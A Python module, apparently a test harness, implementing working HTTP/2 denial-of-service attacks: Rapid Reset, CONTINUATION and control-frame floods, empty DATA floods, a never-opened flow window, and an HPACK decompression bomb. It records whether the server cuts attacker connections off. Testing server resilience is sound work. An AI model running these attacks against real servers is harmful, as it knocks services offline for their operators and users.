"""HTTP/2 attacks. Each runs for about `seconds` with `conns` attacker connections and
returns an Outcome. An attacker whose connection is cut off opens a new one while time is
left (as a real one would), so the pressure stays on for the whole attack; `cut_off`
counts the connections the server ended."""
import threading
import time

from hostile import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM,
                     SETTINGS, WINDOW_UPDATE, H2Attacker, Outcome, frame, hpack_int, hpack_str,
                     literal, literal_indexed, request_block, settings)

GET_ROOT = request_block(b"GET", b"/")


def _run(conns, seconds, body):
    """Runs `body(attacker, deadline, counters)` on `conns` threads, reconnecting after
    each cut until the deadline."""
    deadline = time.monotonic() + seconds
    lock = threading.Lock()
    counters = {"frames": 0, "streams": 0}
    all_attackers = []

    def worker(port_holder):
        while time.monotonic() < deadline:
            try:
                a = port_holder()
            except OSError:
                time.sleep(0.05)
                continue
            with lock:
                all_attackers.append(a)
            local = {"frames": 0, "streams": 0}
            try:
                body(a, deadline, local)
            finally:
                with lock:
                    for k, v in local.items():
                        counters[k] = counters.get(k, 0) + v
            # Give the server's verdict a moment to arrive before judging this connection.
            end = time.monotonic() + 2
            while a.reads and a.cut_at is None and time.monotonic() < end:
                time.sleep(0.02)
            if not a.reads:
                a.check_closed(2.0)
            a.close()
    return deadline, lock, counters, all_attackers, worker


def _go(port, conns, seconds, body, read=True, initial_settings=b""):
    deadline, _, counters, attackers, worker = _run(conns, seconds, body)
    threads = [threading.Thread(target=worker, args=(lambda: H2Attacker(port, read, initial_settings),), daemon=True)
               for _ in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 30)
    cut = [a for a in attackers if a.cut_at is not None]
    return Outcome(counters, connections=len(attackers), cut_off=len(cut),
                   cut_after_s_median=round(sorted(a.cut_at for a in cut)[len(cut) // 2], 2) if cut else None,
                   goaway_codes=sorted({a.goaway for a in cut if a.goaway is not None}))


def rapid_reset(port, seconds, conns=4, batch=200, gap=0.0, path=b"/"):
    """CVE-2023-44487: open a stream and cancel it at once, without end. With `gap` > 0
    the cancels follow each batch of requests after that many seconds, once the server
    has taken the streams up (h2's count of streams reset before they were accepted no
    longer sees them)."""
    head = request_block(b"GET", path)

    def body(a, deadline, n):
        sid = 1
        while a.cut_at is None and time.monotonic() < deadline:
            opens, resets = [], []
            for _ in range(batch):
                opens.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, head))
                resets.append(frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
                sid += 2
            if gap:
                if not a.send(b"".join(opens), deadline):
                    break
                time.sleep(gap)
                if not a.send(b"".join(resets), deadline):
                    break
            elif not a.send(b"".join(o + r for o, r in zip(opens, resets)), deadline):
                break
            n["streams"] += batch
            n["frames"] += 2 * batch
    return _go(port, conns, seconds, body)


def continuation_flood(port, seconds, conns=4, empty=False):
    """2024's CONTINUATION flood: a header block that never ends. Full frames of header
    fields (memory), or empty frames (CPU only)."""
    chunk = b"" if empty else (literal(b"x-flood", b"a" * 4000) * 4)[:16384]

    def body(a, deadline, n):
        sid = 1
        if not a.send(frame(HEADERS, 0, sid, GET_ROOT)):
            return
        while a.cut_at is None and time.monotonic() < deadline:
            if not a.send(frame(CONTINUATION, 0, sid, chunk) * 64, deadline):
                break
            n["frames"] += 64
    return _go(port, conns, seconds, body)


def control_flood(port, seconds, conns=4, kind="ping", read=True):
    """CVE-2019-9512 (PING) / -9515 (SETTINGS): frames the server must answer. With
    `read` off the attacker never reads, so the answers pile up on the server's side."""
    if kind == "ping":
        one = frame(PING, 0, 0, b"12345678")
    elif kind == "settings":
        one = settings(max_concurrent_streams=100)
    elif kind == "window_update":
        one = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
    else:
        raise ValueError(kind)
    batch = one * 500

    def body(a, deadline, n):
        while a.cut_at is None and time.monotonic() < deadline:
            if not a.send(batch, deadline):
                break
            n["frames"] += 500
    return _go(port, conns, seconds, body, read=read)


def empty_data_flood(port, seconds, conns=4, streams=10, payload=b""):
    """CVE-2019-9518: DATA frames with no data (or one byte each: a body of tiny frames)
    on open request streams, never ending them."""
    def body(a, deadline, n):
        sids = list(range(1, 2 * streams, 2))
        head = request_block(b"POST", b"/echo")
        if not a.send(b"".join(frame(HEADERS, END_HEADERS, s, head) for s in sids)):
            return
        n["streams"] += len(sids)
        batch = b"".join(frame(DATA, 0, s, payload) for s in sids) * (500 // len(sids) + 1)
        per = len(sids) * (500 // len(sids) + 1)
        while a.cut_at is None and time.monotonic() < deadline:
            if not a.send(batch, deadline):
                break
            n["frames"] += per
    return _go(port, conns, seconds, body)


def window_never_opened(port, seconds, conns=4, streams=100, body_bytes=256 * 1024, path=b"/echo", window=0):
    """A client that announces a stream window of 0 and never opens it (nor the
    connection's), while staying active (PINGs) so that it never looks idle. With
    `body_bytes` it uploads that much to `path` (POST /echo) on each of `streams` streams,
    so that every answer is as large; without, it GETs `path` (a large streamed answer).
    The server must not hold those answers for ever. `window` 1 lets one byte of each
    answer out, so that the server hands the rest to its HTTP/2 layer at once."""
    hello = settings(initial_window_size=window)
    # The connection's window for our uploads starts at the protocol's 65,535 bytes; the
    # server widens it with WINDOW_UPDATEs. Its SETTINGS give each stream 1 MiB (hyper).
    server_window = 65535

    def body(a, deadline, n):
        sid = 1
        in_flight = 0       # bytes uploaded
        while not a.frames_in.get(SETTINGS) and a.cut_at is None and time.monotonic() < deadline:
            time.sleep(0.005)
        for _ in range(streams):
            if a.cut_at is not None or time.monotonic() > deadline:
                return
            if not body_bytes:
                if not a.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(b"GET", path)), deadline):
                    return
            else:
                head = request_block(b"POST", path, literal(b"content-length", b"%d" % body_bytes))
                if not a.send(frame(HEADERS, END_HEADERS, sid, head), deadline):
                    return
                left = body_bytes
                while left:
                    while in_flight + 16384 > server_window + a.credit:
                        if a.cut_at is not None or time.monotonic() > deadline:
                            return
                        time.sleep(0.005)
                    take = min(16384, left)
                    left -= take
                    in_flight += take
                    if not a.send(frame(DATA, 0 if left else END_STREAM, sid, b"w" * take), deadline):
                        return
                    n["frames"] += 1
            n["streams"] += 1
            sid += 2
        while a.cut_at is None and time.monotonic() < deadline:
            if not a.send(frame(PING, 0, 0, b"alive..!"), deadline):
                break
            n["frames"] += 1
            time.sleep(0.5)
    return _go(port, conns, seconds, body, initial_settings=hello)


def hpack_abuse(port, seconds, conns=4, kind="bomb"):
    """The header compression table as a weapon.
    - "bomb": one 4 KB entry put in the dynamic table, then a header block that names it
      thousands of times: a few KB on the wire, megabytes decoded.
    - "churn": every request fills the whole table anew with big entries.
    - "resize": a dynamic table size update far above what the server allowed."""
    def body(a, deadline, n):
        sid = 1
        if kind == "bomb":
            seed = literal_indexed(b"x-bomb", b"b" * 4000)
            refs = hpack_int(62, 7, 0x80) * 4000      # indexed field 62 = the newest entry
            block = GET_ROOT + seed + refs
        elif kind == "churn":
            block = GET_ROOT + b"".join(literal_indexed(b"x-churn-%d" % i, b"c" * 1000) for i in range(12))
        elif kind == "resize":
            block = hpack_int(1 << 30, 5, 0x20) + GET_ROOT
        else:
            raise ValueError(kind)
        while a.cut_at is None and time.monotonic() < deadline:
            out = []
            for _ in range(8):
                # A header block above the frame size goes out as HEADERS + CONTINUATIONs.
                parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
                for i, p in enumerate(parts):
                    last = i == len(parts) - 1
                    out.append(frame(HEADERS if i == 0 else CONTINUATION,
                                     (END_HEADERS if last else 0) | (END_STREAM if i == 0 else 0), sid, p))
                sid += 2
            if not a.send(b"".join(out), deadline):
                break
            n["streams"] += 8
            time.sleep(0.01)
    return _go(port, conns, seconds, body)


__all__ = ["rapid_reset", "continuation_flood", "control_flood", "empty_data_flood",
           "window_never_opened", "hpack_abuse", "hpack_str"]
